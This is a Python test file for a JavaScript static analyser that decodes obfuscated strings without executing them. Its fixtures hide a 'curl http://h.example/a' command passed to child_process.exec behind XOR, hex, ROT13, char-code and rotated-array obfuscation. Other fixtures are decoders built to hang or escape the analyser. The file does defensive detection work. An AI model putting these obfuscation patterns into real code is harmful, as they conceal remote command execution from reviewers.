"""Decoders that a file brings along are computed on its syntax tree, and never run without bound."""

from __future__ import annotations

import pytest

from fimci.capabilities.uses import known
from fimci.readers.code.javascript_syntax.program import program
from tests import growth

RUN = 'require("child_process").exec('


def command(text: str) -> str:
    """Return what the first command is that a text starts."""
    uses = program(text.encode(), "a.js").uses
    return next((known(use.arguments[0]) for use in uses if use.name == "child_process.exec"), "")


@pytest.mark.parametrize(
    "text",
    [
        (
            "function d(s, k) { let o = ''; for (let i = 0; i < s.length; i++) "
            "o += String.fromCharCode(s.charCodeAt(i) ^ k); return o } RUN d('`vqo#kwws9,,k-f{bnsof,b', 3))"
        ),
        (
            "const d = (s) => s.match(/../g).map((x) => String.fromCharCode(parseInt(x, 16))).join('');"
            "RUN d('6375726c20687474703a2f2f682e6578616d706c652f61'))"
        ),
        (
            "const d = n => decodeURIComponent(n.replace(/../g, '%$&'));"
            "RUN d('6375726c20687474703a2f2f682e6578616d706c652f61'))"
        ),
        (
            "const a = [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 104, 46,"
            " 101, 120, 97, 109, 112, "
            "108, 101, 47, 97]; let o = ''; for (const c of a) { o += String.fromCharCode(c) } RUN o)"
        ),
        (
            "const a = 'a/elpmaxe.h//:ptth lruc'; let o = ''; let i = a.length; "
            "while (i--) o += a.charAt(i).replace('^', ''); RUN o)"
        ),
        (
            "const o = []; const a = '`vqo#kwws9,,k-f{bnsof,b'; for (let i = 0; i < a.length; i++) "
            "{ o.push(String.fromCharCode(a.charCodeAt(i) ^ 3)) } RUN o.join(''))"
        ),
        (
            "const a = 'abcdefghijklmnopqrstuvwxyz:/. '; function d(l) { var o = ''; l.forEach(function (n) "
            "{ o += a[n].replace('^', '') }); return o } "
            "RUN d([2, 20, 17, 11, 29, 7, 19, 19, 15, 26, 27, 27, 7, 28, 4, 23, 0, 12, 15, 11, 4, 27, 0]))"
        ),
        (
            "const d = (s) => s.split('').reduce((o, c) => String.fromCharCode(c.charCodeAt(0) - 1) + o, '');"
            "RUN d('b0fmqnbyf/i00;quui!msvd'))"
        ),
        (
            "const d = (s) => Buffer.from(s, 'hex').map((b, i) => b ^ 'key'.charCodeAt(i % 3)).toString();"
            "RUN d('08100b0745111f1109514a56034b1c1304141b091c4404'))"
        ),
        (
            "RUN (() => { const o = []; for (const p of"
            " '63-75-72-6c-20-68-74-74-70-3a-2f-2f-68-2e-65-78-61-6d-70"
            "-6c-65-2f-61'.split('-')) { o.push(Number('0x' + p)) } return String.fromCharCode(...o) })())"
        ),
        (
            "const d = (s) => s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= "
            "(c = c.charCodeAt(0) + 13) ? c : c - 26)); RUN d('phey uggc://u.rknzcyr/n'))"
        ),
        (
            "const d = (v) => Buffer.from([...v].map((w) => w.codePointAt(0) - 0xFE00)"
            ".reduce((o, n, i) => { if (i % 2) o[o.length - 1] += n; else o.push(n * 16); return o }, []))"
            ".toString(); RUN d('"
            + "".join(chr(0xFE00 + half) for b in b"curl http://h.example/a" for half in divmod(b, 16))
            + "'))"
        ),
        (
            "let o = ''; let i = 0; do { o += String.fromCharCode([98, 116, 113, 107, 31,"
            " 103, 115, 115, 111, 57, "
            "46, 46, 103, 45, 100, 119, 96, 108, 111, 107, 100, 46, 96][i] + 1); i++ } while (i < 23); RUN o)"
        ),
    ],
)
def test_a_decoder_of_the_file_is_computed(text: str) -> None:
    assert command(text.replace("RUN ", RUN)) == "curl http://h.example/a"


@pytest.mark.parametrize(
    "text",
    [
        (
            "var A=['ZXhlYw==','Y3VybCBo','Y2hpbGRfcHJvY2Vzcw==','eA=='];(function(a,b){var f=function(n){"
            "while(--n){a['push'](a['shift']());}};f(++b);}(A,0x2));var g=function(i){i=i-0x0;return A[i];};"
            "function d(i){return atob(g(i));}require(d(0x0))[d('0x2')](d(0x3));"
        ),
        (
            "var A=['exec','curl h','child_process','x'];(function(a,b){while(b--){a.push(a.shift())}})(A,2);"
            "function g(i){i=i-5;return A[i]}require(g(5))[g(7)](g(8));"
        ),
    ],
)
def test_an_array_that_is_turned_so_often_gives_its_texts(text: str) -> None:
    assert command(text) == "curl h"


def test_what_is_decoded_is_told_as_decoded() -> None:
    told = program(
        b"const d = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 3)).join('');"
        b"eval(d('qfrvjqf+!ejof\\x7c!*'))",
        "a.js",
    )
    assert any("decoded" in use.arguments[0].flows for use in told.uses if use.name == "eval")


def test_what_only_joins_constants_is_not() -> None:
    told = program(
        b"const d = (a, b) => [a, b].filter(Boolean).reduce((o, c) => o + c); eval(d('one + ', 'two'))",
        "a.js",
    )
    assert not any("decoded" in use.arguments[0].flows for use in told.uses if use.name == "eval")


@pytest.mark.parametrize(
    "text",
    [
        "function d(s) { while (true) { s += s.charCodeAt(0) } } RUN d('a'))",
        "function d(s) { return d(s + 'a'.charCodeAt(0)) } RUN d('a'))",
        "function d(s) { let o = s; for (;;) { o = o.replace(/a/g, 'aa') } return o } RUN d('a'))",
        "function d(s) { return s.replace(/(a+)+b/g, '') } RUN d('" + "a" * 40 + "'))",
        "function d(s) { return new Uint8Array(1e12) } RUN d('a'))",
        "function d(s) { return s.repeat(1e9).charCodeAt(0) } RUN d('a'))",
        "function d(s) { return 9 ** 9 ** 9 ** 9 ^ s.charCodeAt(0) } RUN d('a'))",
        "function d(s) { let a = []; for (;;) a = [a, a, s.charCodeAt(0)]; } RUN d('a'))",
        "function d(s) { return process.exit(s.charCodeAt(0)) } RUN d('a'))",
        "const d = (s) => " + "(" * 500 + "s.charCodeAt(0)" + ")" * 500 + "; RUN d('a'))",
        "const d = (s) => { s.constructor.constructor('return 1')(); return s.charCodeAt(0) }; RUN d('a'))",
    ],
)
def test_nothing_is_run_and_what_never_ends_is_given_up(text: str) -> None:
    assert program(text.replace("RUN ", RUN).encode(), "a.js").decoded == ()


def test_the_time_grows_with_the_text() -> None:
    growth.is_linear(
        lambda text: program(text, "a.js"),
        lambda count: (
            b"const d = (s) => s.split('').map((c) => c.charCodeAt(0) ^ 1).join('');\n"
            + b"".join(b"eval(d('%d'));\n" % number for number in range(count))
        ),
        100,
    )
